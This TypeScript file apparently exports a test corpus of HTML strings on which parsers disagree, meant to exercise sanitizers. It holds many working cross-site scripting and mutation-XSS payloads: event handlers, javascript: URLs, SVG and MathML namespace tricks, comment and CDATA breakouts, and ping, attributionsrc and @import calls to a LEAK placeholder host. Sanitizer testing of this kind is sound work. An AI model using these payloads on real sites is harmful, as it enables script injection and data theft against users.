/** Markup on which parsers disagree: namespaces, nesting, ends of comments, quotes, entities, and elements and attributes that are old or very new. */
import { each, LEAK, RUN } from './tokens';

const IMAGE = `<img src="/none.png" onerror="${RUN}">`;
const PLAIN = IMAGE.replaceAll('"', "'");
const XHTML = 'http://www.w3.org/1999/xhtml';
const svgWithHandler = encodeURIComponent(
  `<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="parent.${RUN}"><a href="javascript:${RUN}"/></svg>`,
);

/** Names with a hyphen that are not custom elements, or could become one. */
const HYPHENATED = ['font-face', 'color-profile', 'missing-glyph', 'annotation-xml', 'x-', 'enliven-island'];
/** Elements that browsers once gave an address or a handler. */
const FORMER = ['layer', 'ilayer', 'webview', 'controlledframe', 'event-source', 'command', 'menuitem', 'xml', 'blink'];
/** Elements at which a parser leaves a list of options. */
const IN_SELECT = ['input', 'keygen', 'textarea', 'svg', 'math', 'button', 'hr', 'script', 'table'];
/** Elements that move out of a table, or stay in it. */
const IN_TABLE = ['form', 'input type="hidden"', 'select', 'math', 'svg', 'b', 'a', 'template'];

const namespaces = [
  ...each(
    ['html:img', 'svg:svg', 'h:iframe', 'a:b'],
    (name) => `<${name} xmlns:h="${XHTML}" onload="${RUN}">x</${name}>`,
  ),
  `<svg xmlns="${XHTML}">${IMAGE}<script>${RUN}</script></svg>`,
  `<svg><html xmlns="${XHTML}"><body onload="${RUN}">${IMAGE}</body></html></svg>`,
  `<math xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script><a href="javascript:${RUN}">x</a></math>`,
  `<svg><font onclick="${RUN}">x</font><font color="red">${IMAGE}</font></svg>`,
  `<svg><annotation-xml encoding="text/html"><script>${RUN}</script>${IMAGE}</annotation-xml></svg>`,
  ...each(
    ['TEXT/HTML', ' text/html', 'text&#x2f;html', 'application/xml+xhtml'],
    (encoding) => `<math><annotation-xml encoding="${encoding}"><style>${IMAGE}</style></annotation-xml></math>`,
  ),
  `<math><mi><svg><foreignObject><math><mo><style>${IMAGE}</style></mo></math></foreignObject></svg></mi></math>`,
  `<svg><desc><math><mtext><svg><style><a id="</style>${PLAIN}">`,
  `<math><malignmark><mglyph><style>${IMAGE}</style></mglyph></malignmark><mtext><malignmark><style>${IMAGE}</style></mtext></math>`,
  `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
];

const nesting = [
  `<form id="o-§n§"><div></form><form onclick="${RUN}" action="javascript:${RUN}"><button>x</button></form></div>`,
  `<form><table><form onsubmit="${RUN}"><tr><td><input name="parentNode"><input name="remove">${IMAGE}</td></tr></form></table>`,
  `<div><form><svg><title><form onclick="${RUN}"><input name="attributes"></form></title></svg></form></div>`,
  ...each(IN_SELECT, (tag) => `<select><option><${tag} autofocus onfocus="${RUN}"></${tag}></select>${PLAIN}`),
  `<select><svg><desc></select>${IMAGE}</desc></svg>`,
  `<select><optgroup><select>${IMAGE}</select><input onclick="${RUN}">`,
  ...each(IN_TABLE, (tag) => `<table><${tag} onclick="${RUN}"><tr><td>x</td></tr>${IMAGE}</table>`),
  `<a href="/x"><table><a onclick="${RUN}" href="javascript:${RUN}"><td><a>${IMAGE}</table>`,
  `<p><svg><p><style><!--</style>${IMAGE}--></svg>`,
  `<button><button onclick="${RUN}"><a><a onclick="${RUN}">x`,
  `<div><template shadowrootmode="open" shadowrootclonable shadowrootserializable><style>@import "${LEAK}"</style>${IMAGE}</template></div>`,
  `<svg><template shadowrootmode="open">${IMAGE}</template></svg><p><template shadowrootmode="OPEN">${IMAGE}`,
  `<template><div><template shadowrootmode="closed">${IMAGE}</template></div></template>`,
];

const texts = [
  `<noscript>&lt;/noscript&gt;${PLAIN.replaceAll('<', '&lt;')}</noscript>`,
  ...each(
    ['noembed', 'noframes', 'xmp', 'iframe'],
    (tag) => `<${tag}>&lt;/${tag}&gt;<${tag}></${tag}>${IMAGE}</${tag}>`,
  ),
  `<svg><noscript><style></noscript>${IMAGE}</style></svg><math><xmp><p id="</xmp>${PLAIN}"></xmp></math>`,
  `<svg><!--</svg>${IMAGE}--></svg><math><![CDATA[</math>${IMAGE}]]></math>`,
  `<svg><style><![CDATA[</style>${IMAGE}]]></style></svg><![CDATA[${IMAGE}]]>`,
  ...each(['!x="', '?x="', '/ x="', '%x="', '!doctype "'], (start) => `<${start}>${IMAGE}">`),
  `<!-- --!>${IMAGE}<!-- <!-- -->${IMAGE}--><!--->${IMAGE}-->`,
  `<textarea>\n</textarea \t\n x>${IMAGE}<title></title/${IMAGE}`,
];

const attributes = [
  `<a href=javascript:${RUN}>x</a><a/href=javascript:${RUN}>x</a><a href=\`javascript:${RUN}\`>x</a>`,
  `<a title="x"onclick="${RUN}"href='javascript:${RUN}'>x</a><b title='>' onclick='${RUN}'>x</b>`,
  `<img src=x:\`title= onerror=${RUN}\`><img alt=\`<b\` src="/none.png" onerror=${RUN}//>`,
  `<b title=x/onclick=${RUN}>x</b><b onclick=x onclick=${RUN}>x</b><b onclick\n=\n${RUN}>x</b>`,
  `<svg><a xlink:href="&#106;&#97;vascript&colon;${RUN}"><text y="9">x</text></a></svg>`,
  `<svg><a xlink:href="java&#x0A;script:${RUN}" XLINK:HREF="#"><text y="9">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,${svgWithHandler}#x"></use><use xlink:href="DATA:image/svg+xml,${svgWithHandler}#x"></use></svg>`,
  `<svg><image xlink:href="data:image/svg+xml,${svgWithHandler}"></image><feImage href="javascript:${RUN}"></feImage></svg>`,
  ...each(
    ['&#104;ref', 'xlink&colon;href', 'hr&#101;f', '\thref', 'HREF'],
    (name) =>
      `<svg><a href="#"><set attributeName="${name}" to="java&#9;script:${RUN}"></set><text y="9">x</text></a></svg>`,
  ),
  `<svg><a><animate attributeName="href" from="#" by="javascript:${RUN}" dur="1ms" fill="freeze"></animate><text y="9">x</text></a></svg>`,
  `<svg><a><animateTransform attributeName="href" to="javascript:${RUN}"></animateTransform><animateMotion attributeName="href" values="javascript:${RUN}"></animateMotion><text y="9">x</text></a></svg>`,
  `<svg><set attributeName="onclick" to="${RUN}"></set><animate attributeName="onmouseover" values="${RUN}"></animate><text y="9">x</text></svg>`,
  `<svg><a><set attributeType="XML" attributeName="href" to="javascript:${RUN}"><animate attributeName="to" values="javascript:${RUN}"></set><text y="9">x</text></a></svg>`,
  `<button is="x-§n§" onclick="${RUN}" formaction="javascript:${RUN}">x</button><a is="x-§n§" href="javascript:${RUN}">x</a>`,
  `<isindex action="javascript:${RUN}" prompt="x" onfocus="${RUN}" autofocus><keygen form="login" name="log" onclick="${RUN}">`,
  `<button interestfor="login" onclick="${RUN}">x</button><a interestfor="pay" href="/x">x</a><area interestfor="pay" href="/x">`,
  `<img src="/none.png" attributionsrc="${LEAK}"><a href="/x" attributionsrc="${LEAK}">x</a>`,
  `<img usemap="#m-§n§" src="/none.png"><map name="m-§n§"><area shape="default" href="javascript:${RUN}" ping="${LEAK}"></map>`,
  `<a href="/x" target="login" rel="opener" ping="${LEAK}" onclick="${RUN}">x</a><form target="login" action="javascript:${RUN}"><button>x</button></form>`,
];

/** Confusions of parsers. */
export const confusions: readonly string[] = [
  ...namespaces,
  ...nesting,
  ...texts,
  ...attributes,
  ...each(
    HYPHENATED,
    (tag) =>
      `<${tag} onclick="${RUN}" tabindex="0" autofocus onfocus="${RUN}">x</${tag}><svg><${tag} onclick="${RUN}">x</${tag}></svg>`,
  ),
  ...each(FORMER, (tag) => `<${tag} src="javascript:${RUN}" href="javascript:${RUN}" onclick="${RUN}">x</${tag}>`),
];
